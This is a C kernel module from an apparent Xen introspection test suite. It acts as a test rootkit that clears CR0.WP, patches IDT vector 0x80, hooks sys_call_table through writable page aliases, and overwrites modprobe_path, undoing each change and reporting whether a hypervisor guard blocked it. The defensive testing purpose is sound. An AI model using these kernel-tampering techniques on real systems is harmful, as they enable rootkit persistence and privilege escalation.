// SPDX-License-Identifier: GPL-2.0 OR MIT
/*
 * The real-Xen suite's second test "rootkit": the moves attack.c does not make, each as
 * rootkits make it, each reported with whether it took effect, each undone at once if it did
 * (so an unguarded guest survives). It never stays loaded (init returns -EAGAIN).
 *
 *   1. clear CR0.WP (mov to cr0 directly);
 *   2. overwrite an IDT gate (vector 0x80's handler offset) through a writable alias of the
 *      IDT's page (vmap): the IDT itself is mapped read-only;
 *   3. hook sys_call_table (its getpid entry) through a writable alias of its page, as
 *      rootkits do once the kernel has made it read-only;
 *   4. overwrite modprobe_path (the program the kernel runs as root for a missing module).
 *
 * sys_call_table and modprobe_path are not exported: the guest's init passes their
 * addresses from /proc/kallsyms (sct=, mpp=). Writes go through __put_kernel_nofault (an
 * exception-table store), so a write that faults is reported, never an oops.
 * Dual-licensed (MIT or GPL-2.0): MIT like the rest of xenvmi, GPL so the kernel loads it untainted.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>
#include <asm/desc.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>
#include "rootkit.h"

static unsigned long sct, mpp;
module_param(sct, ulong, 0);
module_param(mpp, ulong, 0);

/* A writable alias of the page holding kernel address `va`; *off gets va's offset in it. */
static void *alias(unsigned long va, unsigned long *off)
{
	phys_addr_t pa = slow_virt_to_phys((void *)va);
	struct page *page = pfn_to_page(pa >> PAGE_SHIFT);

	*off = va & ~PAGE_MASK;
	return vmap(&page, 1, VM_MAP, PAGE_KERNEL);
}

static int __init attack2_init(void)
{
	unsigned long flags, cr0, cr0_after, off_idt = 0, off_sct = 0;
	struct desc_ptr idtr;
	u16 gate = 0, gate_after = 0, gate_new;
	unsigned long call = 0, call_after = 0, call_new;
	char path[32], path_after[32];
	static const char evil[] = "/tmp/xv-evil";
	void *idt_page, *sct_page = NULL;
	int idt_ok = 0, sct_ok = 0;
	size_t i;

	store_idt(&idtr);
	idt_page = alias(idtr.address, &off_idt);
	if (sct)
		sct_page = alias(sct, &off_sct);

	local_irq_save(flags);
	/* 1. CR0.WP */
	cr0 = raw_read_cr0();
	raw_write_cr0(cr0 & ~X86_CR0_WP);
	cr0_after = raw_read_cr0();
	if (cr0_after != cr0)
		raw_write_cr0(cr0);
	/* 2. IDT gate 0x80: its offset_low (bytes 0-1 of the 16-byte gate) */
	if (idt_page) {
		volatile u16 *g = (u16 *)((char *)idt_page + off_idt + 0x80 * 16);

		gate = *g;
		gate_new = gate ^ 0x5a5a;
		idt_ok = !put_u16((void *)g, gate_new);
		gate_after = *g;
		if (gate_after != gate)
			put_u16((void *)g, gate);
	}
	/* 3. sys_call_table[__NR_getpid (39)] */
	if (sct_page) {
		volatile unsigned long *e = (unsigned long *)((char *)sct_page + off_sct) + 39;

		call = *e;
		call_new = call + 0x10;
		sct_ok = !put_u64((void *)e, call_new);
		call_after = *e;
		if (call_after != call)
			put_u64((void *)e, call);
	}
	/* 4. modprobe_path */
	path[0] = path_after[0] = 0;
	if (mpp) {
		memcpy(path, (void *)mpp, sizeof path);
		for (i = 0; i < sizeof evil; i++)
			put_u8((char *)mpp + i, evil[i]);
		memcpy(path_after, (void *)mpp, sizeof path_after);
		for (i = 0; i < sizeof path; i++)
			if (path_after[i] != path[i])
				put_u8((char *)mpp + i, path[i]);
	}
	local_irq_restore(flags);
	if (idt_page)
		vunmap(idt_page);
	if (sct_page)
		vunmap(sct_page);
	path[sizeof path - 1] = path_after[sizeof path_after - 1] = 0;

	/* Three short lines: Xen's console cuts a guest's line at 200 characters. */
	pr_notice("xenvmi-attack2: cr0 %lx -> %lx wp_kept=%d; idt[0x80] %04x -> %04x idt_kept=%d stored=%d\n",
		cr0, cr0_after, !!(cr0_after & X86_CR0_WP),
		gate, gate_after, idt_page && gate_after == gate, idt_ok);
	pr_notice("xenvmi-attack2: sys_call_table[39] %lx -> %lx sct_kept=%d stored=%d\n",
		call, call_after, sct_page && call_after == call, sct_ok);
	pr_notice("xenvmi-attack2: modprobe_path %s -> %s modprobe_kept=%d\n",
		path, path_after, mpp && !strcmp(path, path_after));
	return -EAGAIN;
}

module_init(attack2_init);
MODULE_LICENSE("Dual MIT/GPL");
MODULE_DESCRIPTION("xenvmi real-Xen suite: more rootkit moves for the policy guard to refuse");
